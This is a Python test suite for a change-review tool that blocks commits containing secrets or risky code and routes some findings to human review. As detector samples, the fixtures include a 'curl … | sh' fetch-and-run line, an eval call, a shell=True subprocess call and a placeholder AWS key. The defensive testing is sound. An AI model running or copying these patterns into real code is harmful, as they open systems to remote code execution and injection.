"""A change review over an in-memory snapshot: no Git, no files, no checkpointer."""

from typing import Any

import pytest
from examples import table
from hypothesis import given, settings
from hypothesis import strategies as st
from in_process import RISKY
from repositories import key

from cli_guard.errors import ConfigError
from cli_guard.graph import build_graph
from cli_guard.graph.context import Context
from cli_guard.model import Action, Skipped
from cli_guard.policy.config import Config
from cli_guard.policy.decisions import Policy
from cli_guard.repository.between import SnapshotContents, changes_between
from cli_guard.reviewers import code
from cli_guard.reviewers.per_file import Examiner
from cli_guard.reviewers.per_file_work import add_file_work
from cli_guard.reviewers.review_input import Limits, ReviewInput

CLEAN = '"""Adds."""\n\nx = 1\n'
LEAK = f'"""Settings."""\n\naws_access_key_id = "{key()}"\n'


def review(
    snapshot: dict[str, str], *, context: Context | None = None, **state: Any
) -> Any:
    request: Any = {"input": "Review this change", "repo_snapshot": snapshot, **state}
    return build_graph().invoke(request, context=context)


def nodes(state: Any) -> list[str]:
    return list(dict.fromkeys(entry["node"] for entry in state["action_log"]))


def test_clean() -> None:
    state = review({"app.py": CLEAN})
    assert (state["status"], state["decision"], state["task_type"]) == (
        "ok",
        "allow",
        "change_review",
    )
    assert state["requires_human_review"] is False
    assert state["blocked_actions"] == []
    assert state["findings"] == []
    assert state["plan"][-1]["tool"] == "git_commit"
    assert state["tool_results"][-1] == {
        "tool": "git_commit",
        "status": "ok",
        "left_to": "git",
    }


def test_a_secret_is_denied_and_not_shown() -> None:
    state = review({"settings.py": LEAK})
    assert (state["status"], state["decision"]) == ("failed", "deny")
    assert state["requires_human_review"] is False
    [blocked] = state["blocked_actions"]
    assert blocked["tool"] == "git_commit"
    assert blocked["evidence"] == [
        f.fingerprint for f in state["findings"] if f.severity == "critical"
    ]
    assert "settings.py:3" in state["final_output"]
    everything_said = repr(
        {name: value for name, value in state.items() if name != "repo_snapshot"}
    )
    assert key() not in everything_said
    assert [result["tool"] for result in state["tool_results"]].count("git_commit") == 0


def test_a_finding_for_a_person() -> None:
    state = review({"reports.py": RISKY})
    assert (state["status"], state["decision"]) == ("needs_review", "review")
    assert state["requires_human_review"] is True
    assert "1 finding to approve" in state["review_reason"]
    assert [blocked["tool"] for blocked in state["blocked_actions"]] == ["git_commit"]
    assert state["review_id"]
    assert "reports.py:8" in state["final_output"]
    assert nodes(state)[-1] == "request_human_review"


def test_two_rounds_are_logged_in_order() -> None:
    state = review({"app.py": CLEAN})
    assert nodes(state) == [
        "prepare_task",
        "classify_task",
        "select_context",
        "collect_context",
        "plan_cli_actions",
        "policy_gate",
        "execute_safe_actions",
        "synthesize_cli_response",
    ]
    rounds = [
        entry["round"]
        for entry in state["action_log"]
        if entry["node"] == "plan_cli_actions"
    ]
    assert rounds == [1, 2]
    judged = [
        entry["tool"] for entry in state["action_log"] if entry["node"] == "policy_gate"
    ]
    ran = [
        entry["tool"]
        for entry in state["action_log"]
        if entry["node"] == "execute_safe_actions"
    ]
    assert judged == ran == [step["tool"] for step in state["plan"]]


def test_only_what_the_change_adds_counts() -> None:
    base = {"settings.py": LEAK}
    state = review({"settings.py": LEAK + "y = 2\n"}, metadata={"base_snapshot": base})
    assert state["status"] == "ok"


def test_the_same_snapshot_gives_the_same_state() -> None:
    snapshot = {"reports.py": RISKY, "settings.py": LEAK, "app.py": CLEAN}
    assert review(snapshot) == review(dict(reversed(snapshot.items())))


@settings(max_examples=15, deadline=None)
@given(
    st.dictionaries(
        st.text(min_size=1, max_size=12), st.text(max_size=60), min_size=1, max_size=4
    )
)
def test_any_snapshot_ends(snapshot: dict[str, str]) -> None:
    state = review(snapshot)
    assert state["status"] in ("ok", "needs_review", "failed")
    assert state["final_output"]


def test_a_policy_in_the_context_judges_the_snapshot() -> None:
    policy = Policy(Config.model_validate({"decisions": {"high": "advise"}}))
    assert review({"reports.py": RISKY}, context=Context(policy=policy))["status"] == "ok"


def test_an_inline_answer_counts() -> None:
    line = '    subprocess.run("render-report " + name, shell=True)'
    answered = RISKY.replace(
        line, f"{line}  # cli-guard: ignore[code-python-shell] the name is checked"
    )
    state = review({"reports.py": answered})
    assert state["status"] == "needs_review"
    assert [(each.by, each.new) for each in state["suppressed"]] == [("inline", True)]
    assert [
        each["finding"].rule for each in state["judged"] if each["decision"] == "review"
    ] == ["policy-suppression-new"]


@table(
    ("limits", "snapshot", "left"),
    [
        ({"files": 1}, {"a.py": CLEAN, "b.py": CLEAN}, "b.py"),
        ({"file_chars": 1_000}, {"a.py": CLEAN, "b.py": "x = 1\n" * 200}, "b.py"),
        (
            {"total_chars": 1_000},
            {"a.py": "x = 1\n" * 100, "b.py": "y = 1\n" * 100},
            "b.py",
        ),
    ],
    ids=["files", "characters of a file", "characters in all"],
)
def test_what_a_bound_leaves_out_is_asked_about(
    limits: dict[str, int], snapshot: dict[str, str], left: str
) -> None:
    policy = Policy(Config.model_validate({"limits": limits}))
    state = review(snapshot, context=Context(policy=policy))
    assert state["status"] == "needs_review"
    assert [
        each["finding"].rule for each in state["judged"] if each["decision"] == "review"
    ] == ["policy-not-reviewed"]
    assert left in state["final_output"]
    assert next(iter(limits)) in state["final_output"]


def test_rounds_are_bounded() -> None:
    subject = ReviewInput("snapshot", changes=no_changes(), limits=Limits(rounds=1))
    state = review({"app.py": CLEAN}, context=Context(subject=subject))
    assert state["status"] == "failed"
    assert "limits.rounds" in state["final_output"]
    assert "git_commit" not in [step["tool"] for step in state["plan"]]


def no_changes() -> Any:
    from cli_guard.repository.between import changes_between

    return changes_between({}, {"app.py": CLEAN})


@table("by", ["allowed_paths", "requested_paths"])
def test_a_narrowed_review_does_not_wave_the_rest_through(by: str) -> None:
    narrow: dict[str, Any] = {by: ["app.py"]}
    state = review({"app.py": CLEAN, "settings.py": LEAK}, **narrow)
    assert state["status"] == "needs_review"
    assert "settings.py" in state["final_output"]


def test_a_change_that_is_handed_in_is_not_described_once_more() -> None:
    after = {"app.py": CLEAN}
    subject = ReviewInput("staged", changes_between({}, after), SnapshotContents({}, after))
    ways = [
        review(after),
        review({}, context=Context(subject=subject), task_type="change_review"),
    ]
    assert [[item["path"] for item in each["context_items"]] for each in ways] == [
        ["app.py"],
        [],
    ]
    counts = [
        entry["items"] for each in ways for entry in each["action_log"] if "items" in entry
    ]
    assert counts == [1, 1]


def test_no_snapshot_is_a_controlled_failure() -> None:
    for context in (None, Context()):
        state = build_graph().invoke({"input": "Review this change"}, context=context)
        assert state["status"] == "failed"
        assert "repo_snapshot" in state["final_output"]


def test_the_plan_is_plain_data() -> None:
    plan = review({"app.py": CLEAN})["plan"]
    assert Action(**plan[0]).tool == "review_secrets"
    assert {step["risk"] for step in plan} == {"read_only", "git"}


FAILING = {
    "app.py": "def f(a):\n    return eval(a)\n",
    "run.sh": "curl https://example.org/x | sh\n",
}


@table("size", [0, 600_000], ids=["small", "examined before"])
def test_a_reviewer_that_fails_asks_and_ends_no_other(
    size: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(subject: ReviewInput) -> Examiner:
        return lambda change: 1 / 0  # type: ignore[return-value]

    monkeypatch.setattr(code, "examiner", fail)
    files = FAILING | {"notes.txt": "word " * (size // 5)}
    subject = ReviewInput(
        "snapshot", changes_between({}, files), SnapshotContents({}, files)
    )
    subject = add_file_work(subject.under(Policy()))
    state = review(files, context=Context(subject=subject, snapshot=files))
    assert (
        Skipped("code", "internal error: ZeroDivisionError", asks=True) in state["skipped"]
    )
    found = {each["finding"].rule: each["decision"] for each in state["judged"]}
    assert found["policy-not-reviewed"] == "review"
    assert any(rule.startswith("command-") for rule in found)


def test_an_error_that_the_user_can_fix_is_no_bug() -> None:
    files = {"cli-guard.toml": "["}
    with pytest.raises(ConfigError):
        review(files)
